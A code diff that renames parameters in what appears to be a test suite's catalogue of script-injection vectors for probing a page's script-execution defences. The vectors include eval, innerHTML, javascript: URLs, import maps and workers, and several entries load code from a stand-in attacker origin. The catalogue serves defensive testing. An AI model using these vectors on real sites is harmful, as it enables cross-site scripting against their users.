@@ -2,77 +2,80 @@ import type { Attack } from './Attack';
 
 const element = 'document.body.appendChild(document.createElement';
 
-/** Ways to run a script that nobody signed; `ran` is the text that each of them tries to run. */
+/** Attacks that run an unsigned script. Each of them tries to run `code`. */
 export const scriptAttacks: Readonly<Record<string, Attack>> = {
-  'an inline script': ({ ran }) =>
-    `const s = document.createElement('script'); s.text = ${ran}; document.body.append(s)`,
-  'an inline module': ({ ran }) =>
-    `const s = document.createElement('script'); s.type = 'module'; s.text = ${ran}; document.body.append(s)`,
-  'a script of SVG': ({ ran }) =>
-    `const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.textContent = ${ran};
+  'an inline script': ({ code }) =>
+    `const s = document.createElement('script'); s.text = ${code}; document.body.append(s)`,
+  'an inline module': ({ code }) =>
+    `const s = document.createElement('script'); s.type = 'module'; s.text = ${code}; document.body.append(s)`,
+  'an SVG script': ({ code }) =>
+    `const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.textContent = ${code};
      const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); g.append(s); document.body.append(g)`,
-  'an attribute that handles a click': ({ ran }) =>
-    `const b = ${element}('button')); b.setAttribute('onclick', ${ran}); b.click(); b.remove()`,
-  'an attribute that handles a broken picture': ({ ran }) =>
-    `const i = ${element}('img')); i.setAttribute('onerror', ${ran}); i.src = 'data:,'; await settled(i); i.remove()`,
-  'HTML into an element': ({ html }) => `${element}('div')).innerHTML = ${html}`,
-  'HTML in the place of an element': ({ html }) => `${element}('div')).outerHTML = ${html}`,
-  'HTML beside an element': ({ html }) => `document.body.insertAdjacentHTML('beforeend', ${html})`,
-  'HTML without a check': ({ html }) => `${element}('div')).setHTMLUnsafe(${html})`,
-  'HTML by a range': ({ html }) =>
-    `document.body.append(document.createRange().createContextualFragment(${html}))`,
-  'HTML by a parser': ({ html }) =>
-    `document.body.append(...new DOMParser().parseFromString(${html}, 'text/html').body.childNodes)`,
-  'a frame with a document of its own': ({ html }) => `${element}('iframe')).srcdoc = ${html}`,
-  eval: ({ ran }) => `eval(${ran})`,
-  'eval from elsewhere': ({ ran }) => `(0, eval)(${ran})`,
-  'a function from text': ({ ran }) => `new Function(${ran})()`,
-  'an async function from text': ({ ran }) => `await (async () => undefined).constructor(${ran})()`,
-  'a timer with text': ({ ran }) => `setTimeout(${ran})`,
-  'a module from a data address': ({ ran }) =>
-    `await import('data:text/javascript,' + encodeURIComponent(${ran}))`,
-  'a module from memory': ({ blob }) => `await import(${blob})`,
-  'a module from another origin': ({ evil }) => `await import('${evil}/module.js')`,
-  'a script from a data address': ({ ran }) =>
-    `const s = ${element}('script')); s.src = 'data:text/javascript,' + encodeURIComponent(${ran}); await settled(s)`,
-  'a script from memory': ({ blob }) => `const s = ${element}('script')); s.src = ${blob}; await settled(s)`,
-  'a script from another origin': ({ evil }) =>
-    `const s = ${element}('script')); s.src = '${evil}/script.js'; await settled(s)`,
-  'a script by its attribute': ({ evil }) =>
-    `const s = document.createElement('script'); s.setAttribute('src', '${evil}/attribute.js'); document.body.append(s);
+  'an onclick attribute': ({ code }) =>
+    `const b = ${element}('button')); b.setAttribute('onclick', ${code}); b.click(); b.remove()`,
+  'an onerror attribute': ({ code }) =>
+    `const i = ${element}('img')); i.setAttribute('onerror', ${code}); i.src = 'data:,'; await settled(i); i.remove()`,
+  'HTML through innerHTML': ({ markup }) => `${element}('div')).innerHTML = ${markup}`,
+  'HTML through outerHTML': ({ markup }) => `${element}('div')).outerHTML = ${markup}`,
+  'HTML through insertAdjacentHTML': ({ markup }) =>
+    `document.body.insertAdjacentHTML('beforeend', ${markup})`,
+  'HTML through setHTMLUnsafe': ({ markup }) => `${element}('div')).setHTMLUnsafe(${markup})`,
+  'HTML through a range': ({ markup }) =>
+    `document.body.append(document.createRange().createContextualFragment(${markup}))`,
+  'HTML through DOMParser': ({ markup }) =>
+    `document.body.append(...new DOMParser().parseFromString(${markup}, 'text/html').body.childNodes)`,
+  'a frame with srcdoc': ({ markup }) => `${element}('iframe')).srcdoc = ${markup}`,
+  eval: ({ code }) => `eval(${code})`,
+  'indirect eval': ({ code }) => `(0, eval)(${code})`,
+  'new Function': ({ code }) => `new Function(${code})()`,
+  'the constructor of async functions': ({ code }) => `await (async () => undefined).constructor(${code})()`,
+  'setTimeout with text': ({ code }) => `setTimeout(${code})`,
+  'a module from a data URL': ({ code }) =>
+    `await import('data:text/javascript,' + encodeURIComponent(${code}))`,
+  'a module from a blob URL': ({ scriptUrl }) => `await import(${scriptUrl})`,
+  'a module from another origin': ({ evilOrigin }) => `await import('${evilOrigin}/module.js')`,
+  'a script from a data URL': ({ code }) =>
+    `const s = ${element}('script')); s.src = 'data:text/javascript,' + encodeURIComponent(${code}); await settled(s)`,
+  'a script from a blob URL': ({ scriptUrl }) =>
+    `const s = ${element}('script')); s.src = ${scriptUrl}; await settled(s)`,
+  'a script from another origin': ({ evilOrigin }) =>
+    `const s = ${element}('script')); s.src = '${evilOrigin}/script.js'; await settled(s)`,
+  'a script with a src attribute': ({ evilOrigin }) =>
+    `const s = document.createElement('script'); s.setAttribute('src', '${evilOrigin}/attribute.js'); document.body.append(s);
      await settled(s)`,
-  'a map of modules': ({ blob }) =>
+  'an import map': ({ scriptUrl }) =>
     `const s = document.createElement('script'); s.type = 'importmap';
-     s.text = JSON.stringify({ imports: { evil: ${blob} } }); document.body.append(s); await import('evil')`,
-  'a link with a script for an address': ({ ran }) =>
-    `const a = ${element}('a')); a.href = 'javascript:' + ${ran}; a.click()`,
-  'a place with a script for an address': ({ ran }) => `location.href = 'javascript:' + ${ran}`,
-  'a frame with a script for an address': ({ ran }) =>
-    `const f = document.createElement('iframe'); f.src = 'javascript:parent.' + ${ran}; document.body.append(f)`,
-  'a form with a script for an address': ({ ran }) =>
-    `const f = ${element}('form')); f.action = 'javascript:' + ${ran}; f.submit()`,
-  'an empty frame that evaluates': ({ ran }) =>
-    `${element}('iframe')).contentWindow.eval('parent.' + ${ran})`,
-  'an empty frame that is written': ({ ran }) =>
-    `const f = ${element}('iframe')); const s = f.contentDocument.createElement('script'); s.text = 'parent.' + ${ran};
+     s.text = JSON.stringify({ imports: { evil: ${scriptUrl} } }); document.body.append(s); await import('evil')`,
+  'a link with a javascript: URL': ({ code }) =>
+    `const a = ${element}('a')); a.href = 'javascript:' + ${code}; a.click()`,
+  'a navigation to a javascript: URL': ({ code }) => `location.href = 'javascript:' + ${code}`,
+  'a frame with a javascript: URL': ({ code }) =>
+    `const f = document.createElement('iframe'); f.src = 'javascript:parent.' + ${code}; document.body.append(f)`,
+  'a form with a javascript: URL': ({ code }) =>
+    `const f = ${element}('form')); f.action = 'javascript:' + ${code}; f.submit()`,
+  'eval in an empty frame': ({ code }) => `${element}('iframe')).contentWindow.eval('parent.' + ${code})`,
+  'a script in an empty frame': ({ code }) =>
+    `const f = ${element}('iframe')); const s = f.contentDocument.createElement('script'); s.text = 'parent.' + ${code};
      f.contentDocument.body.append(s)`,
-  'a frame from memory': ({ page }) => `const f = ${element}('iframe')); f.src = ${page}; await settled(f)`,
-  'a frame from a data address': () =>
+  'a frame with a blob URL': ({ pageUrl }) =>
+    `const f = ${element}('iframe')); f.src = ${pageUrl}; await settled(f)`,
+  'a frame with a data URL': () =>
     `const f = ${element}('iframe')); f.src = 'data:text/html,<script>parent.postMessage("ran","*")</script>'; await settled(f)`,
-  'a frame with our own page in it': () =>
-    `const f = ${element}('iframe')); f.src = '/'; await settled(f); if (f.contentDocument?.scripts.length) told()`,
-  'a worker from memory': ({ blob }) => `const w = new Worker(${blob}); await settled(w)`,
-  'a shared worker': ({ blob }) => `const w = new SharedWorker(${blob}); await settled(w)`,
-  'a plug-in': ({ evil }) => `const o = ${element}('object')); o.data = '${evil}/object'; await settled(o)`,
-  'an embedded document': ({ evil }) =>
-    `const o = ${element}('embed')); o.src = '${evil}/embed'; await settled(o)`,
-  'code for the machine': () =>
-    `await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); told()`,
-  'a policy of its own for HTML': () =>
-    `trustedTypes.createPolicy('own', { createHTML: (text) => text }); told()`,
-  'another base for addresses': ({ evil }) =>
-    `const b = document.createElement('base'); b.href = '${evil}/'; document.head.append(b);
-     if (new URL('x', document.baseURI).origin === '${evil}') told(); b.remove()`,
-  // Would it pass, nothing after it could be told.
-  'HTML into the document': ({ html }) => `document.write(${html})`,
+  'a frame with the page itself': () =>
+    `const f = ${element}('iframe')); f.src = '/'; await settled(f); if (f.contentDocument?.scripts.length) succeed()`,
+  'a worker from a blob URL': ({ scriptUrl }) => `const w = new Worker(${scriptUrl}); await settled(w)`,
+  'a shared worker': ({ scriptUrl }) => `const w = new SharedWorker(${scriptUrl}); await settled(w)`,
+  'a plug-in': ({ evilOrigin }) =>
+    `const o = ${element}('object')); o.data = '${evilOrigin}/object'; await settled(o)`,
+  'an embedded document': ({ evilOrigin }) =>
+    `const o = ${element}('embed')); o.src = '${evilOrigin}/embed'; await settled(o)`,
+  WebAssembly: () =>
+    `await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); succeed()`,
+  'a new Trusted Types policy': () =>
+    `trustedTypes.createPolicy('own', { createHTML: (text) => text }); succeed()`,
+  'a base element': ({ evilOrigin }) =>
+    `const b = document.createElement('base'); b.href = '${evilOrigin}/'; document.head.append(b);
+     if (new URL('x', document.baseURI).origin === '${evilOrigin}') succeed(); b.remove()`,
+  // Last, because a successful write replaces the document and ends the script.
+  'HTML through document.write': ({ markup }) => `document.write(${markup})`,
 };
